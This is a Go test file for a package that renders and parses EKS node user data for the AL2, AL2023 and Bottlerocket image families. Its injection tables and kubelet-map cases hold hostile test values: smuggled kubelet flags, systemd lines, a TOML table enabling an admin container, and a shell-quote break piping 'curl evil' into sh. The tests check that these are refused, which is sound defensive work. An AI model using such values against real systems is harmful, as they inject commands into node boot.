package userdata

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/BurntSushi/toml"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"k8s.io/apimachinery/pkg/util/validation"
)

func opts() Options {
	return Options{
		ClusterName: "demo-cluster", ClusterEndpoint: "https://127.0.0.1:6443", ClusterCA: []byte("-----BEGIN CERTIFICATE-----\nx\n-----END CERTIFICATE-----\n"),
		ClusterDNS: "10.0.0.10", ClusterCIDR: "10.0.0.0/24",
		Labels:  map[string]string{"karpenter.sh/nodepool": "default", "a": "b", "karpenter.sh/capacity-type": "spot"},
		Taints:  []Taint{{Key: "t", Value: "v", Effect: "NoSchedule"}, {Key: "karpenter.sh/unregistered", Effect: "NoExecute"}},
		Kubelet: Kubelet{MaxPods: ptr[int32](29)},
	}
}

func ptr[T any](v T) *T { return &v }

func TestRenderParseRoundTripPerFamily(t *testing.T) {
	for _, fam := range []Family{AL2, AL2023, Bottlerocket} {
		t.Run(string(fam), func(t *testing.T) {
			doc, err := Render(fam, opts())
			require.NoError(t, err)
			reg, err := Parse(doc)
			require.NoError(t, err, doc)
			assert.Equal(t, "demo-cluster", reg.ClusterName)
			assert.Equal(t, opts().Labels, reg.Labels)
			assert.ElementsMatch(t, opts().Taints, reg.Taints)
			assert.Equal(t, int32(29), *reg.Kubelet.MaxPods)
			assert.Equal(t, []string{"10.0.0.10"}, reg.Kubelet.ClusterDNS)
			// EC2 carries user data base64-encoded; Parse takes either.
			reg2, err := Parse(base64.StdEncoding.EncodeToString([]byte(doc)))
			require.NoError(t, err)
			assert.Equal(t, reg, reg2)
		})
	}
}

func TestAL2UsesBootstrapScript(t *testing.T) {
	doc, err := Render(AL2, opts())
	require.NoError(t, err)
	assert.Contains(t, doc, "/etc/eks/bootstrap.sh 'demo-cluster'")
	assert.Contains(t, doc, "--kubelet-extra-args '--node-labels=a=b,karpenter.sh/capacity-type=spot,karpenter.sh/nodepool=default --register-with-taints=t=v:NoSchedule,karpenter.sh/unregistered:NoExecute --max-pods=29'")
	assert.Contains(t, doc, "--use-max-pods false")
}

func TestAL2023WritesNodeConfig(t *testing.T) {
	doc, err := Render(AL2023, opts())
	require.NoError(t, err)
	parts, err := ParseMultipart(doc)
	require.NoError(t, err)
	require.Len(t, parts, 1)
	assert.Equal(t, "application/node.eks.aws", parts[0].ContentType)
	assert.Contains(t, parts[0].Body, "kind: NodeConfig")
	assert.Contains(t, parts[0].Body, "maxPods: 29")
	assert.Contains(t, parts[0].Body, "cidr: 10.0.0.0/24")
}

func TestCustomUserDataIsMergedNotReplaced(t *testing.T) {
	o := opts()
	o.Custom = "#!/bin/bash\necho custom-setup\n"
	doc, err := Render(AL2, o)
	require.NoError(t, err)
	parts, err := ParseMultipart(doc)
	require.NoError(t, err)
	require.Len(t, parts, 2)
	assert.Contains(t, parts[0].Body, "echo custom-setup", "the class's script runs before bootstrap")
	assert.Contains(t, parts[1].Body, "/etc/eks/bootstrap.sh")

	// A class's own NodeConfig comes after ours, so its settings win where they overlap.
	o.Custom = "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"BOUNDARY\"\n\n--BOUNDARY\nContent-Type: application/node.eks.aws\n\napiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    flags:\n    - --node-labels=team=infra\n--BOUNDARY--\n"
	doc, err = Render(AL2023, o)
	require.NoError(t, err)
	reg, err := Parse(doc)
	require.NoError(t, err)
	assert.Equal(t, "infra", reg.Labels["team"])
	assert.Equal(t, "default", reg.Labels["karpenter.sh/nodepool"])
}

func TestBadInputGetsClearErrors(t *testing.T) {
	_, err := Render("Windows2022", opts())
	assert.ErrorContains(t, err, `unsupported AMI family "Windows2022"`)
	_, err = Render(AL2, Options{})
	assert.ErrorContains(t, err, "cluster name is required")
	o := opts()
	o.Custom = "MIME-Version: 1.0\nContent-Type: text/plain\n\nhello"
	_, err = Render(AL2, o)
	assert.ErrorContains(t, err, "not multipart")
	_, err = Parse("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x")
	assert.Error(t, err)
}

// Parse reads user data that arrives from outside (launch templates); it must never panic.
func FuzzParse(f *testing.F) {
	for _, fam := range []Family{AL2, AL2023, Bottlerocket} {
		doc, _ := Render(fam, opts())
		f.Add(doc)
	}
	f.Add("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"//\"\n\n--//\n")
	f.Fuzz(func(t *testing.T, doc string) {
		_, _ = Parse(doc)
	})
}

func TestParseReadsRegisterWithTaintsAndRejectsUnknownEffects(t *testing.T) {
	doc := "apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  cluster:\n    name: c\n  kubelet:\n    config:\n      registerWithTaints:\n      - key: karpenter.sh/unregistered\n        effect: NoExecute\n"
	reg, err := Parse(doc)
	require.NoError(t, err)
	assert.Equal(t, []Taint{{Key: "karpenter.sh/unregistered", Effect: "NoExecute"}}, reg.Taints)

	_, err = Parse("/etc/eks/bootstrap.sh c --kubelet-extra-args '--register-with-taints=t=v:Sometimes'")
	assert.ErrorContains(t, err, `unknown effect "Sometimes"`)
	_, err = Parse("[settings.kubernetes.node-taints]\n\"t\" = [\"v:Never\"]\n")
	assert.ErrorContains(t, err, `unknown effect "Never"`)
}

// fullKubelet sets every kubelet setting a node class can carry.
func fullKubelet() Kubelet {
	return Kubelet{
		MaxPods: ptr[int32](10), PodsPerCore: ptr[int32](4),
		SystemReserved:              map[string]string{"cpu": "100m", "memory": "200Mi", "ephemeral-storage": "1Gi"},
		KubeReserved:                map[string]string{"cpu": "250m", "memory": "1Gi"},
		EvictionHard:                map[string]string{"memory.available": "5%", "nodefs.available": "15%"},
		EvictionSoft:                map[string]string{"memory.available": "500Mi"},
		EvictionSoftGracePeriod:     map[string]string{"memory.available": "1m30s"},
		EvictionMaxPodGracePeriod:   ptr[int32](60),
		ImageGCHighThresholdPercent: ptr[int32](85), ImageGCLowThresholdPercent: ptr[int32](80),
		CPUCFSQuota: ptr(false), ClusterDNS: []string{"10.100.0.10"},
	}
}

// Every family writes the node class's kubelet settings and RAID0 policy, and Parse (the
// emulator's kubelet) reads all of them back.
func TestKubeletSettingsAndRAID0RoundTripPerFamily(t *testing.T) {
	for _, fam := range []Family{AL2, AL2023, Bottlerocket} {
		t.Run(string(fam), func(t *testing.T) {
			o := opts()
			o.Kubelet = fullKubelet()
			o.InstanceStorePolicy = RAID0
			want := o.Kubelet
			if fam == Bottlerocket {
				o.Kubelet.PodsPerCore, want.PodsPerCore = nil, nil
			}
			doc, err := Render(fam, o)
			require.NoError(t, err)
			reg, err := Parse(doc)
			require.NoError(t, err, doc)
			assert.Equal(t, want, reg.Kubelet, doc)
			assert.Equal(t, RAID0, reg.InstanceStorePolicy, doc)
			assert.Equal(t, fam, reg.Family)
			assert.Equal(t, opts().Labels, reg.Labels)

			o.InstanceStorePolicy, o.Kubelet = "", Kubelet{}
			doc, err = Render(fam, o)
			require.NoError(t, err)
			reg, err = Parse(doc)
			require.NoError(t, err)
			assert.Empty(t, reg.InstanceStorePolicy)
			assert.Nil(t, reg.Kubelet.MaxPods)
		})
	}
}

// renderFull renders fam's user data with every kubelet setting the family takes (all but
// podsPerCore on Bottlerocket) and the RAID0 policy.
func renderFull(t *testing.T, fam Family) string {
	t.Helper()
	o := opts()
	o.Kubelet = fullKubelet()
	o.InstanceStorePolicy = RAID0
	if fam == Bottlerocket {
		o.Kubelet.PodsPerCore = nil
	}
	doc, err := Render(fam, o)
	require.NoError(t, err)
	return doc
}

func TestAL2KubeletFlags(t *testing.T) {
	doc := renderFull(t, AL2)
	assert.Contains(t, doc, "--use-max-pods false")
	assert.Contains(t, doc, "--local-disks raid0")
	assert.Contains(t, doc, "--dns-cluster-ip '10.100.0.10'", "the class's cluster DNS wins over the launcher's")
	for _, f := range []string{"--max-pods=10", "--pods-per-core=4", "--system-reserved=cpu=100m,ephemeral-storage=1Gi,memory=200Mi",
		"--kube-reserved=cpu=250m,memory=1Gi", "--eviction-hard=memory.available<5%,nodefs.available<15%",
		"--eviction-soft=memory.available<500Mi", "--eviction-soft-grace-period=memory.available=1m30s",
		"--eviction-max-pod-grace-period=60", "--image-gc-high-threshold=85", "--image-gc-low-threshold=80", "--cpu-cfs-quota=false"} {
		assert.Contains(t, doc, f)
	}
}

func TestAL2023NodeConfigKubeletAndLocalStorage(t *testing.T) {
	parts, err := ParseMultipart(renderFull(t, AL2023))
	require.NoError(t, err)
	body := parts[0].Body
	for _, s := range []string{"maxPods: 10", "kubeReserved:", "memory: 1Gi", "evictionHard:", "memory.available: 5%",
		"clusterDNS:\n      - 10.100.0.10", "localStorage:\n      strategy: RAID0", "podsPerCore: 4", "systemReserved:",
		"evictionSoft:", "evictionSoftGracePeriod:", "evictionMaxPodGracePeriod: 60", "imageGCHighThresholdPercent: 85",
		"imageGCLowThresholdPercent: 80", "cpuCFSQuota: false"} {
		assert.Contains(t, body, s)
	}
}

// Bottlerocket's settings.kubernetes spells each kubelet setting its own way.
func TestBottlerocketKubeletSettingNames(t *testing.T) {
	var root struct {
		Settings struct{ Kubernetes map[string]any }
	}
	_, err := toml.Decode(renderFull(t, Bottlerocket), &root)
	require.NoError(t, err)
	kube := root.Settings.Kubernetes
	assert.Equal(t, int64(10), kube["max-pods"])
	assert.Equal(t, int64(60), kube["eviction-max-pod-grace-period"])
	assert.Equal(t, int64(85), kube["image-gc-high-threshold-percent"])
	assert.Equal(t, int64(80), kube["image-gc-low-threshold-percent"])
	assert.Equal(t, false, kube["cpu-cfs-quota-enforced"])
	for _, table := range []string{"system-reserved", "kube-reserved", "eviction-hard", "eviction-soft", "eviction-soft-grace-period"} {
		assert.IsType(t, map[string]any{}, kube[table], table)
	}
}

// A Bottlerocket class's own user data may set settings.kubernetes itself: the result is one
// valid TOML document with the class's keys kept and the cluster's settings Fleetwright's.
func TestBottlerocketMergesTheClassTOML(t *testing.T) {
	o := opts()
	o.Kubelet = Kubelet{MaxPods: ptr[int32](20), KubeReserved: map[string]string{"memory": "1Gi"}}
	o.InstanceStorePolicy = RAID0
	o.Custom = `[settings.kubernetes]
cluster-name = "someone-elses"
image-gc-high-threshold-percent = 90
max-pods = 99

[settings.kubernetes.node-labels]
team = "infra"
"karpenter.sh/nodepool" = "not-this"

[settings.kubernetes.node-taints]
dedicated = ["infra:NoSchedule"]

[settings.host-containers.admin]
enabled = true
`
	doc, err := Render(Bottlerocket, o)
	require.NoError(t, err)
	var parsed map[string]any
	_, err = toml.Decode(doc, &parsed)
	require.NoError(t, err, "valid TOML:\n%s", doc)
	kube := parsed["settings"].(map[string]any)["kubernetes"].(map[string]any)
	assert.Equal(t, "demo-cluster", kube["cluster-name"], "the cluster's settings are Fleetwright's")
	assert.Equal(t, int64(90), kube["image-gc-high-threshold-percent"], "the class's own kubelet settings are kept")
	assert.Equal(t, int64(20), kube["max-pods"], "the class's spec.kubelet wins over its user data")
	admin := parsed["settings"].(map[string]any)["host-containers"].(map[string]any)["admin"].(map[string]any)
	assert.Equal(t, true, admin["enabled"])

	reg, err := Parse(doc)
	require.NoError(t, err)
	assert.Equal(t, "infra", reg.Labels["team"])
	assert.Equal(t, "default", reg.Labels["karpenter.sh/nodepool"])
	assert.Contains(t, reg.Taints, Taint{Key: "dedicated", Value: "infra", Effect: "NoSchedule"})
	assert.Contains(t, reg.Taints, Taint{Key: "t", Value: "v", Effect: "NoSchedule"})
	assert.Equal(t, int32(20), *reg.Kubelet.MaxPods)
	assert.Equal(t, map[string]string{"memory": "1Gi"}, reg.Kubelet.KubeReserved)
	assert.Equal(t, RAID0, reg.InstanceStorePolicy)

	o.Custom = "[settings\nbroken"
	_, err = Render(Bottlerocket, o)
	assert.ErrorContains(t, err, "parsing the node class's Bottlerocket user data as TOML")
	o.Custom = "settings = 3"
	_, err = Render(Bottlerocket, o)
	assert.ErrorContains(t, err, `"settings"`)
}

func TestUnsupportedSettingsAreRefused(t *testing.T) {
	o := opts()
	o.InstanceStorePolicy = "RAID5"
	_, err := Render(AL2, o)
	assert.ErrorContains(t, err, `unsupported instanceStorePolicy "RAID5"`)
	o = opts()
	o.Kubelet.PodsPerCore = ptr[int32](2)
	_, err = Render(Bottlerocket, o)
	assert.ErrorContains(t, err, "podsPerCore is not supported on Bottlerocket")
	o.Custom = "[settings\n" // and the class's user data is broken too: the setting is named first
	_, err = Render(Bottlerocket, o)
	assert.ErrorContains(t, err, "podsPerCore is not supported on Bottlerocket")
}

// The Custom family's user data is the class's, byte for byte: Fleetwright writes nothing into
// an image that bootstraps itself.
func TestCustomFamilyIsTheClassUserDataAsItIs(t *testing.T) {
	o := opts()
	o.Custom = "#!/bin/bash\n/opt/bootstrap --cluster demo\n"
	got, err := Render(Custom, o)
	require.NoError(t, err)
	assert.Equal(t, o.Custom, got)
}

// injections are labels and taints that, written into user data as they are, would add kubelet
// flags, systemd or shell lines, or TOML tables, or keep the node from joining.
var injections = []struct {
	name                 string
	labelKey, labelValue string
	taint                Taint
}{
	{name: "label value adding a flag", labelKey: "team", labelValue: "a --max-pods=1"},
	{name: "label value adding a systemd line", labelKey: "team", labelValue: "a\nExecStartPre=/bin/sh -c id"},
	{name: "label value adding a label", labelKey: "team", labelValue: "a,evil=yes"},
	{name: "label value closing the shell quote", labelKey: "team", labelValue: "a'; curl evil | sh; '"},
	{name: "label value adding a NodeConfig flag", labelKey: "team", labelValue: "a\n    - --max-pods=1"},
	{name: "label value adding a TOML table", labelKey: "team", labelValue: "a\"\n[settings.host-containers.admin]\nenabled = true\n"},
	{name: "label key with a space", labelKey: "team --max-pods", labelValue: "a"},
	{name: "label key with a bad prefix", labelKey: "Example_Com/team", labelValue: "a"},
	{name: "label key name too long", labelKey: "example.com/" + strings.Repeat("a", 64), labelValue: "a"},
	{name: "taint value adding a taint", taint: Taint{Key: "t", Value: "v,evil=x:NoExecute", Effect: "NoSchedule"}},
	{name: "taint value adding a line", taint: Taint{Key: "t", Value: "v\nExecStart=", Effect: "NoSchedule"}},
	{name: "taint key adding a flag", taint: Taint{Key: "t --max-pods=1", Effect: "NoSchedule"}},
	{name: "empty taint key", taint: Taint{Effect: "NoSchedule"}},
	{name: "misspelt effect", taint: Taint{Key: "t", Value: "v", Effect: "NoSchedul"}},
	{name: "effect adding a flag", taint: Taint{Key: "t", Value: "v", Effect: "NoSchedule --max-pods=1"}},
}

// Render refuses, with the offending label or taint named, anything that is not one valid
// token: whatever wrote the NodeClaim (a translated Provisioner, a hand-written claim), it
// cannot add kubelet flags or lines to the node's boot.
func TestRenderRefusesLabelsAndTaintsThatAreNotOneToken(t *testing.T) {
	for _, tc := range injections {
		for _, fam := range []Family{AL2, AL2023, Bottlerocket, Custom} {
			t.Run(tc.name+"/"+string(fam), func(t *testing.T) {
				o := opts()
				want := ""
				if tc.labelKey != "" {
					o.Labels[tc.labelKey] = tc.labelValue
					want = fmt.Sprintf("label %q", tc.labelKey)
				} else {
					o.Taints = append(o.Taints, tc.taint)
					want = fmt.Sprintf("taint %q", tc.taint.String())
				}
				_, err := Render(fam, o)
				require.Error(t, err)
				assert.ErrorContains(t, err, want)
			})
		}
	}
}

// Whatever labels and taints Render accepts, a node reading the user data registers with
// exactly those: every label and taint is one token, and nothing else (no kubelet flag, no
// line, no table) comes with it. Render refuses only labels and taints the kubelet would.
func FuzzRenderLabelsAndTaints(f *testing.F) {
	f.Add("team", "a", "dedicated", "gpu", "NoSchedule")
	f.Add("example.com/Tier_1.x", "", "example.com/k", "", "PreferNoSchedule")
	for _, tc := range injections {
		f.Add(tc.labelKey, tc.labelValue, tc.taint.Key, tc.taint.Value, tc.taint.Effect)
	}
	f.Fuzz(func(t *testing.T, labelKey, labelValue, taintKey, taintValue, effect string) {
		o := opts()
		o.Kubelet = Kubelet{}
		valid := true
		// All empty stands for none, so a seed can test a label or a taint alone.
		if labelKey != "" || labelValue != "" {
			o.Labels[labelKey] = labelValue
			valid = len(validation.IsQualifiedName(labelKey)) == 0 && len(validation.IsValidLabelValue(labelValue)) == 0
		}
		taint := Taint{Key: taintKey, Value: taintValue, Effect: effect}
		if taint != (Taint{}) {
			o.Taints = append(o.Taints, taint)
			valid = valid && len(validation.IsQualifiedName(taintKey)) == 0 && len(validation.IsValidLabelValue(taintValue)) == 0 &&
				slices.Contains([]string{"NoSchedule", "PreferNoSchedule", "NoExecute"}, effect)
		}
		for _, fam := range []Family{AL2, AL2023, Bottlerocket} {
			doc, err := Render(fam, o)
			if err != nil {
				require.False(t, valid, "%s refused a valid label or taint: %v", fam, err)
				continue
			}
			require.True(t, valid, "%s rendered label %q=%q, taint %q", fam, labelKey, labelValue, taint)
			reg, err := Parse(doc)
			require.NoError(t, err, doc)
			require.Equal(t, fam, reg.Family)
			require.Equal(t, o.ClusterName, reg.ClusterName, doc)
			require.Equal(t, o.Labels, reg.Labels, doc)
			require.ElementsMatch(t, o.Taints, reg.Taints, doc)
			require.Equal(t, Kubelet{ClusterDNS: []string{o.ClusterDNS}}, reg.Kubelet, "no kubelet setting but the cluster DNS:\n%s", doc)
			require.Empty(t, reg.InstanceStorePolicy, doc)
		}
	})
}

// Issue 31, item 7: a kubelet map's keys and values go into AL2's --kubelet-extra-args, which
// the kubelet's unit splits on spaces: a key or value that is not one token of its kind would
// add kubelet flags. Render refuses, naming the setting, a key the kubelet does not know for
// that map and a value that is not a quantity, percentage or duration as the map wants, in
// every family; Karpenter's own values pass.
func TestRenderRefusesKubeletMapsThatAreNotOneToken(t *testing.T) {
	for _, tc := range []struct {
		name string
		k    Kubelet
		want string // "" for valid
	}{
		{"karpenter's values", Kubelet{SystemReserved: map[string]string{"cpu": "100m", "memory": "100Mi", "ephemeral-storage": "1Gi", "pid": "100"},
			KubeReserved: map[string]string{"memory": "1Gi"}, EvictionHard: map[string]string{"memory.available": "5%", "nodefs.available": "10%", "pid.available": "10%"},
			EvictionSoft: map[string]string{"memory.available": "500Mi", "imagefs.inodesFree": "5%"}, EvictionSoftGracePeriod: map[string]string{"memory.available": "1m30s"}}, ""},
		{"eviction key with a flag", Kubelet{EvictionHard: map[string]string{"memory.available --register-node=false": "5%"}}, `evictionHard key "memory.available --register-node=false"`},
		{"unknown eviction signal", Kubelet{EvictionSoft: map[string]string{"gpu.available": "5%"}}, `evictionSoft key "gpu.available"`},
		{"eviction value with a flag", Kubelet{EvictionHard: map[string]string{"memory.available": "5% --v=9"}}, `evictionHard["memory.available"] value "5% --v=9"`},
		{"eviction value with a separator", Kubelet{EvictionHard: map[string]string{"memory.available": "5%,nodefs.available<1%"}}, `evictionHard["memory.available"]`},
		{"grace period key with a flag", Kubelet{EvictionSoftGracePeriod: map[string]string{"memory.available=1m --anonymous-auth=true,x": "1m"}}, `evictionSoftGracePeriod key`},
		{"grace period not a duration", Kubelet{EvictionSoftGracePeriod: map[string]string{"memory.available": "soon"}}, `evictionSoftGracePeriod["memory.available"] value "soon"`},
		{"reservation key with a flag", Kubelet{SystemReserved: map[string]string{"cpu=1 --cgroups-per-qos=false": "1"}}, `systemReserved key`},
		{"reservation value with a space", Kubelet{KubeReserved: map[string]string{"memory": "1Gi --v=9"}}, `kubeReserved["memory"] value`},
	} {
		for _, fam := range []Family{AL2, AL2023, Bottlerocket} {
			t.Run(tc.name+"/"+string(fam), func(t *testing.T) {
				o := opts()
				o.Kubelet = tc.k
				doc, err := Render(fam, o)
				if tc.want == "" {
					require.NoError(t, err)
					reg, err := Parse(doc)
					require.NoError(t, err)
					assert.Equal(t, tc.k.EvictionHard, reg.Kubelet.EvictionHard)
					return
				}
				require.Error(t, err, "rendered:\n%s", doc)
				assert.ErrorContains(t, err, tc.want)
			})
		}
	}
}
